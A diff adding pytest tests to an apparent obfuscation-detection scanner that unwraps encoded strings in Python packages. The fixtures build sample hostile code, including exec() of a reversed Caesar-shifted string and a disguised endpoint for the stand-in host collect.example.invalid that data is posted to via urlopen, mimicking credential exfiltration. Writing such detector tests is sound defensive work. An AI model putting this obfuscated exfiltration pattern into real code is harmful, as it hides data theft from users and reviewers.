@@ -261,3 +261,23 @@ def test_a_command_the_folder_decoded_and_handed_to_a_shell_is_a_layer():
     result = peel_file("pkg/core.py", source)
     assert [(d.kind, d.chain, d.data, d.origin_line) for d in result.derived] == [
         ("text", ["replace", "fromhex"], command, 3)]
+
+
+def test_a_caesar_shift_over_a_reversed_string_is_folded() -> None:
+    code = CODE.decode()
+    shifted = "".join(chr(ord(c) + 3) for c in code)[::-1]
+    assert _decodes_to_code(f"s = {shifted!r}\nexec(''.join(chr(ord(c) - 3) for c in s[::-1]))\n")[-1] == "chr-list-sub:3"
+
+
+def test_an_endpoint_the_folder_decoded_is_a_layer_even_outside_a_sink() -> None:
+    # iamenumer: the endpoint hides as a reversed, Caesar-shifted string, posted to elsewhere
+    url = "https://collect.example.invalid/aws"
+    hidden = "".join(chr(ord(c) + 3) for c in url)[::-1]
+    source = (f"import os\nfrom urllib import request\ndef send(d):\n    uc = {hidden!r}\n"
+              "    endpoint = os.environ.get('X', ''.join(chr(ord(c) - 3) for c in uc[::-1]))\n"
+              "    request.urlopen(endpoint, data=d)\n").encode()
+    result = peel_file("pkg/main.py", source)
+    assert [(d.kind, d.chain, d.data, d.origin_line) for d in result.derived] == [
+        ("text", ["reverse", "chr-list-sub:3"], url.encode(), 5)]
+    # the same URL written plainly is no layer: nothing was hidden
+    assert not peel_file("pkg/main.py", f"import requests\nrequests.post({url!r}, data=d)\n".encode()).derived
